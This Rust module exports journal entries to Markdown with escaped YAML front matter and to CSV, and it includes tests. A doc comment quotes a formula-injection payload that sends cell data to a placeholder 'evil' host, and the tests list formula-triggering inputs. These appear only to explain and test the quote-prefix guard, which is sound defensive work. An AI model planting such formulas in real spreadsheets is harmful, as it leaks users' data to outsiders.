//! Readable exports of the journal: one Markdown file with YAML front matter per entry, and a
//! CSV of entries for spreadsheet programs. Both list entries oldest first (by date, then id),
//! so the same journal always gives the same bytes.

use super::date::Date;
use super::entry::Entry;
use crate::domain::sort::OneSort;
use std::fmt::Write as _;

/// `jejak-journal-YYYY-MM-DD.md`, dated with the export day.
pub fn markdown_file_name(date: Date) -> String {
    format!("jejak-journal-{date}.md")
}

/// `jejak-entries-YYYY-MM-DD.csv`, dated with the export day.
pub fn csv_file_name(date: Date) -> String {
    format!("jejak-entries-{date}.csv")
}

fn sorted(entries: &[(String, Entry)]) -> Vec<&(String, Entry)> {
    let mut v: Vec<&(String, Entry)> = entries.iter().collect();
    v.one_sort_by(|a, b| a.1.date.cmp(&b.1.date).then_with(|| a.0.cmp(&b.0)));
    v
}

fn hours_text(hours: Option<f64>) -> Option<String> {
    hours.filter(|h| h.is_finite()).map(|h| h.to_string())
}

// ---------------------------------------------------------------------------------------------
// Markdown

/// The journal as one Markdown file. Each entry is a YAML front matter block followed by its
/// body unchanged, and entries are separated by a blank line:
///
/// ```text
/// ---
/// id: "6f1c…"
/// title: "Rapat: evaluasi \"Q3\""
/// date: 2026-11-25
/// kind: mentoring_note
/// learning: social
/// hours: 1.5          (only when given)
/// tags:
///   - "kepemimpinan"  (or `tags: []`)
/// ---
/// body…
/// ```
///
/// Every string is a YAML double-quoted scalar, so no title can break the block (`:`, `#`,
/// quotes, a leading `-`, newlines and control characters are all escaped). The body is written
/// unchanged (the user's Markdown, CRLF included), with a final newline added when missing; a
/// body line that is exactly `---` stays as is, so a reader splitting the file on `---` lines
/// should take the front matter blocks by their keys, not by position alone.
pub fn journal_markdown(entries: &[(String, Entry)]) -> String {
    let mut out = String::new();
    for (i, (id, e)) in sorted(entries).into_iter().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str("---\n");
        let _ = writeln!(out, "id: {}", yaml_string(id));
        let _ = writeln!(out, "title: {}", yaml_string(&e.title));
        let _ = writeln!(out, "date: {}", e.date);
        let _ = writeln!(out, "kind: {}", e.entry_kind.as_str());
        let _ = writeln!(out, "learning: {}", e.learning.as_str());
        if let Some(h) = hours_text(e.hours) {
            let _ = writeln!(out, "hours: {h}");
        }
        if e.tags.is_empty() {
            out.push_str("tags: []\n");
        } else {
            out.push_str("tags:\n");
            for t in &e.tags {
                let _ = writeln!(out, "  - {}", yaml_string(t));
            }
        }
        out.push_str("---\n");
        out.push_str(&e.body);
        if !e.body.is_empty() && !e.body.ends_with('\n') {
            out.push('\n');
        }
    }
    out
}

/// A YAML double-quoted scalar (YAML 1.2 §7.3.1). Escapes `"` and `\`, tab, CR and LF by name,
/// and as `\xNN` / `\uNNNN` every character YAML does not allow unescaped or would read as a
/// line break (C0 and C1 controls, DEL, U+2028, U+2029, the BOM and U+FFFE/U+FFFF). Everything
/// else, Indonesian diacritics and emoji included, is written as is.
pub fn yaml_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\0' => out.push_str("\\0"),
            c if (c as u32) < 0x20 || ('\u{7f}'..='\u{9f}').contains(&c) => {
                let _ = write!(out, "\\x{:02X}", c as u32);
            }
            '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}' => {
                let _ = write!(out, "\\u{:04X}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

// ---------------------------------------------------------------------------------------------
// CSV

pub const CSV_HEADER: [&str; 8] = [
    "id", "date", "title", "kind", "learning", "hours", "tags", "body",
];

/// Entries as CSV (RFC 4180): a header row, one row per entry, CRLF after every row, fields
/// quoted only when they contain a comma, a double quote, CR or LF (quotes doubled inside), tags
/// joined with `;`, hours with a `.` decimal point (empty when not given). The text starts with
/// a UTF-8 byte order mark so spreadsheet programs (Excel above all) read it as UTF-8 and show
/// Indonesian text and emoji correctly instead of mojibake.
///
/// Formula injection: spreadsheet programs treat a cell starting with `=`, `+`, `-` or `@` as a
/// formula (and some also after a leading tab or CR), so an imported or shared entry titled
/// `=HYPERLINK("http://evil/?"&A1)` could run when the CSV is opened. Any text field starting
/// with one of those characters gets a leading `'`, which spreadsheets read as "this is text"
/// and hide. The cost: other CSV readers see the `'`. Hours are numbers the app wrote and
/// are left alone.
pub fn entries_csv(entries: &[(String, Entry)]) -> String {
    let mut out = String::from("\u{feff}");
    push_row(&mut out, CSV_HEADER.iter().map(|h| h.to_string()));
    for (id, e) in sorted(entries) {
        push_row(
            &mut out,
            [
                csv_text(id),
                e.date.to_string(),
                csv_text(&e.title),
                e.entry_kind.as_str().to_string(),
                e.learning.as_str().to_string(),
                hours_text(e.hours).unwrap_or_default(),
                csv_text(&e.tags.join(";")),
                csv_text(&e.body),
            ]
            .into_iter(),
        );
    }
    out
}

/// Neutralises a field a spreadsheet would read as a formula (see [`entries_csv`]).
fn csv_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

fn push_row(out: &mut String, fields: impl Iterator<Item = String>) {
    for (i, f) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        if f.contains([',', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&f);
        }
    }
    out.push_str("\r\n");
}

#[cfg(all(test, not(target_arch = "wasm32")))]
mod tests {
    use super::*;
    use crate::domain::entry::{EntryKind, LearningType};

    fn entry(date: (i32, u32, u32), title: &str) -> Entry {
        let mut e = Entry::new(Date::new(date.0, date.1, date.2).unwrap());
        e.title = title.into();
        e
    }

    #[test]
    fn file_names() {
        let d = Date::new(2026, 1, 5).unwrap();
        assert_eq!(markdown_file_name(d), "jejak-journal-2026-01-05.md");
        assert_eq!(csv_file_name(d), "jejak-entries-2026-01-05.csv");
    }

    #[test]
    fn yaml_quoting() {
        assert_eq!(yaml_string("plain"), "\"plain\"");
        assert_eq!(yaml_string("a: \"b\" # c\\d"), "\"a: \\\"b\\\" # c\\\\d\"");
        assert_eq!(yaml_string("- x\ny\r\tz"), "\"- x\\ny\\r\\tz\"");
        assert_eq!(
            yaml_string("\u{1}\u{7f}\u{85}\u{2028}\u{feff}\0"),
            "\"\\x01\\x7F\\x85\\u2028\\uFEFF\\0\""
        );
        assert_eq!(yaml_string("Pelatihan 🚀 ë"), "\"Pelatihan 🚀 ë\"");
    }

    #[test]
    fn csv_quoting_and_guard() {
        let mut out = String::new();
        push_row(
            &mut out,
            ["a", "b,c", "say \"hi\"", "l1\nl2", "x\ry", ""]
                .iter()
                .map(|s| s.to_string()),
        );
        assert_eq!(out, "a,\"b,c\",\"say \"\"hi\"\"\",\"l1\nl2\",\"x\ry\",\r\n");
        for bad in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_text(bad), format!("'{bad}"));
        }
        assert_eq!(csv_text("a=b"), "a=b");
        assert_eq!(csv_text(""), "");
    }

    #[test]
    fn order_is_date_then_id_and_empty_is_header_only() {
        let entries = vec![
            ("b".to_string(), entry((2026, 3, 1), "three")),
            ("z".to_string(), entry((2026, 1, 1), "one")),
            ("a".to_string(), entry((2026, 3, 1), "two")),
        ];
        let md = journal_markdown(&entries);
        let one = md.find("\"one\"").unwrap();
        let two = md.find("\"two\"").unwrap();
        let three = md.find("\"three\"").unwrap();
        assert!(one < two && two < three);
        assert_eq!(journal_markdown(&[]), "");
        assert_eq!(
            entries_csv(&[]),
            "\u{feff}id,date,title,kind,learning,hours,tags,body\r\n"
        );
        let csv = entries_csv(&entries);
        let rows: Vec<&str> = csv.split("\r\n").collect();
        assert!(rows[1].starts_with("z,") && rows[2].starts_with("a,"));
        assert!(rows[3].starts_with("b,") && rows[4].is_empty());
    }

    #[test]
    fn entry_fields_appear() {
        let mut e = entry((2026, 11, 25), "Judul");
        e.entry_kind = EntryKind::Training;
        e.learning = LearningType::Formal;
        e.hours = Some(2.0);
        e.tags = vec!["sql".into(), "data".into()];
        e.body = "isi".into();
        let entries = vec![("id1".to_string(), e)];
        assert_eq!(
            journal_markdown(&entries),
            "---\nid: \"id1\"\ntitle: \"Judul\"\ndate: 2026-11-25\nkind: training\n\
             learning: formal\nhours: 2\ntags:\n  - \"sql\"\n  - \"data\"\n---\nisi\n"
        );
        assert!(entries_csv(&entries)
            .ends_with("\r\nid1,2026-11-25,Judul,training,formal,2,sql;data,isi\r\n"));
    }
}
